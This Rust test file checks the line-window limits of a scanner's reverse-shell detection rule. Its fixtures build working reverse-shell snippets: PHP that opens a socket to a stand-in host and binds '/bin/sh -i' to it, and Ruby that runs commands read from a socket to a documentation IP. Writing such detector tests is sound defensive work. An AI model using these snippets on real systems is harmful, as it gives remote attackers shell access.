//! `hijack.rs` at its edges (session 25's sweep, docs/mutation-testing.md):
//! a socket's shell read eight lines below it and not nine, and never past
//! the end of its block; session 26's: the same for a shell written as a
//! loop that runs what the socket reads (`runs_what_it_reads`' own window).

use crate::scan::Scanner;

fn lines_of(text: &str, id: &str) -> Vec<usize> {
    Scanner::standard().scan(text).findings.iter().filter(|f| f.rule_id == id).map(|f| f.line).collect()
}

fn session(between: usize) -> String {
    format!(
        "```php\n$sock = fsockopen(\"console.example\", 7001);\n{}$proc = proc_open(\"/bin/sh -i\", [0 => $sock, 1 => $sock], $pipes);\n```\n",
        "$n = $n + 1;\n".repeat(between)
    )
}

#[test]
fn a_sockets_shell_is_read_eight_lines_below_it_and_not_nine() {
    // The socket on line 2: its shell on line 10 (eight below), then 11.
    assert!(lines_of(&session(7), "shell.reverse-shell").contains(&2));
    assert!(!lines_of(&session(8), "shell.reverse-shell").contains(&2));
}

#[test]
fn a_sockets_shell_is_not_read_past_the_end_of_its_block() {
    let body = "```php\n$sock = fsockopen(\"console.example\", 7001);\n```\n\n```php\n$proc = proc_open(\"/bin/sh -i\", [0 => $sock, 1 => $sock], $pipes);\n```\n";
    assert!(!lines_of(body, "shell.reverse-shell").contains(&2));
}

/// A socket on line 2 whose input is read on line 3 and run as a command
/// `between` lines further down (no shell named: the loop is the shell).
fn read_and_run(between: usize) -> String {
    format!(
        "```ruby\ns = TCPSocket.new(\"198.51.100.22\", 4433)\nc = s.gets\n{}IO.popen(c, \"r\") {{ |io| s.print io.read }}\n```\n",
        "n += 1\n".repeat(between)
    )
}

#[test]
fn what_a_socket_reads_is_run_eight_lines_below_it_and_not_nine() {
    // Run on line 10 (eight below the socket), then on line 11.
    assert!(lines_of(&read_and_run(6), "shell.reverse-shell").contains(&2));
    assert!(!lines_of(&read_and_run(7), "shell.reverse-shell").contains(&2));
}

#[test]
fn what_a_socket_reads_is_not_run_past_the_end_of_its_block() {
    let body = "```ruby\ns = TCPSocket.new(\"198.51.100.22\", 4433)\nc = s.gets\n```\n\n```ruby\nIO.popen(c, \"r\") { |io| s.print io.read }\n```\n";
    assert!(!lines_of(body, "shell.reverse-shell").contains(&2));
    // The same lines in one block: the loop's shell.
    let one = "```ruby\ns = TCPSocket.new(\"198.51.100.22\", 4433)\nc = s.gets\nIO.popen(c, \"r\") { |io| s.print io.read }\n```\n";
    assert!(lines_of(one, "shell.reverse-shell").contains(&2));
}
